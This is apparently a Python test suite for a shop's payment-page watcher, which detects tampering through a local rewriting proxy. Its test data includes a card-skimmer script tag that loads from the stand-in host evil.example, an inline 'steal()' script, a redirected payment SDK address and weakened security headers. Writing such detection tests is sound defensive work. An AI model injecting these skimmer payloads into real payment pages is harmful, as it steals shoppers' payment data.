"""The look at the live payment page: silent while all is as released, loud about every change on the way."""

import asyncio
import dataclasses
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
import pytest_asyncio

from app.commands import main
from app.infra.migrations import migrate
from app.machines import Machines, build_machines
from app.payments.page.watch import Look, check_page
from sandbox import children
from tests.buyer import alarms
from tests.goods import mug
from tests.processes import Placed, RunningShop, serving
from tests.shop import settings_for
from tests.stack import Stack

pytestmark = pytest.mark.real_first

SKIMMER = b"<script src=//evil.example/x.js></script>"


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def running(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningShop]:
    """The shop on a database of its own: the newest order is ours."""
    own = dataclasses.replace(stack, database_url=stack.create_database())
    async with serving(own, tmp_path_factory.mktemp("watch")) as running:
        yield running


def looking_at(running: RunningShop, url: str, folder: Path) -> Machines:
    """The machines of a worker that is told shoppers come by ``url``."""
    return build_machines(dataclasses.replace(settings_for(running.stack, folder), public_url=url))


@pytest_asyncio.fixture(loop_scope="session")
async def m(running: RunningShop, tmp_path: Path) -> AsyncIterator[Machines]:
    m = looking_at(running, running.url, tmp_path)
    yield m
    await m.close()


@pytest_asyncio.fixture(loop_scope="session")
async def placed(running: RunningShop, m: Machines) -> Placed:
    buyer = running.buyer()
    await buyer.add(await mug(m))
    return await buyer.place_order()


async def test_nothing_to_see_is_no_alarm(stack: Stack, running: RunningShop, tmp_path: Path) -> None:
    empty = dataclasses.replace(stack, database_url=stack.create_database())
    m = looking_at(dataclasses.replace(running, stack=empty), running.url, tmp_path)
    await migrate(m.db)
    assert await check_page(m) == Look("no_order")
    await m.close()


async def test_the_page_of_this_release_is_the_same(m: Machines, placed: Placed) -> None:
    before = alarms("payment_page_changed")
    assert await check_page(m) == Look("same")
    assert alarms("payment_page_changed") == before


async def test_looking_changes_nothing_for_the_shopper(
    running: RunningShop, m: Machines, placed: Placed
) -> None:
    await check_page(m)
    page = await running.buyers[-1].get(f"/orders/{placed.order_no}/payment")
    assert placed.payment_no in page.text


async def test_a_shop_that_cannot_be_reached_is_no_alarm(
    running: RunningShop, placed: Placed, tmp_path: Path
) -> None:
    m = looking_at(running, f"http://{children.LOOPBACK}:{children.free_port()}", tmp_path)
    before = alarms("payment_page_changed")
    assert (await check_page(m)).outcome == "unreachable"
    assert alarms("payment_page_changed") == before
    await m.close()


CHANGES = {
    "a script more": (b"</body>", SKIMMER + b"</body>", "not in the inventory"),
    "a script in the page": (b"</body>", b"<script>steal()</script></body>", "inline script"),
    "a script less": (b'js/payment.js"', b'js/none.js"', "no js/payment.js"),
    "a script's content": (b".requestPayment(", b".requestPayment (", "content of js/payment.js"),
    "another address for Toss": (b'sdk-url="http', b'sdk-url="//evil', "the address of Toss's script"),
    "a policy that lets more in": (b"script-src", b"script-src https:", "Content-Security-Policy"),
    "no policy": (b"content-security-policy:", b"x-nothing:", "Content-Security-Policy"),
    "a header gone": (b"x-content-type-options:", b"x-nothing:", "X-Content-Type-Options"),
    "a page that may be kept": (b"cache-control: no-store", b"cache-control: public  ", "Cache-Control"),
}  # fmt: skip


@pytest.mark.parametrize("what", CHANGES)
async def test_a_change_on_the_way_is_named_and_raises_the_alarm(
    running: RunningShop, placed: Placed, tmp_path: Path, caplog: pytest.LogCaptureFixture, what: str
) -> None:
    old, new, named = CHANGES[what]
    async with tampering(running.url, old, new) as url:
        m = looking_at(running, url, tmp_path)
        before = alarms("payment_page_changed")
        look = await check_page(m)
        await m.close()
    assert look.outcome == "different"
    assert named in look.text
    assert alarms("payment_page_changed") == before + 1
    assert f"alarm payment_page_changed: {look.differences[0]}" in caplog.text
    for private in (placed.order_no, placed.payment_no, "김민지"):
        assert private not in caplog.text + look.text


async def test_by_hand_the_status_tells(
    running: RunningShop, placed: Placed, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in running.environment.items():
        monkeypatch.setenv(name, value)
    asked = ["check-payment-page"]
    monkeypatch.setattr("app.commands.set_up_log", lambda _level: None)  # the tests' own log stays
    assert await asyncio.to_thread(main, asked) == 0
    assert capsys.readouterr().out == "payment page: same\n"
    async with tampering(running.url, b"</body>", SKIMMER + b"</body>") as url:
        monkeypatch.setenv("PUBLIC_URL", url)
        assert await asyncio.to_thread(main, asked) == 1
    assert re.match(r"payment page: different\n  a script .*evil\.example", capsys.readouterr().out)


@asynccontextmanager
async def tampering(url: str, old: bytes, new: bytes) -> AsyncIterator[str]:
    """Stand between shoppers and the shop, and change what comes back."""
    host, port = url.removeprefix("http://").split(":")

    async def pass_on(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        theirs, ours = await asyncio.open_connection(host, int(port))
        ours.write(head.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))
        answer = await theirs.read()
        changed = re.sub(rb"content-length: \d+\r\n", b"", answer.replace(old, new))
        writer.write(changed)
        await writer.drain()
        writer.close()
        ours.close()

    server = await asyncio.start_server(pass_on, children.LOOPBACK, 0)
    async with server:
        yield f"http://{children.LOOPBACK}:{server.sockets[0].getsockname()[1]}"
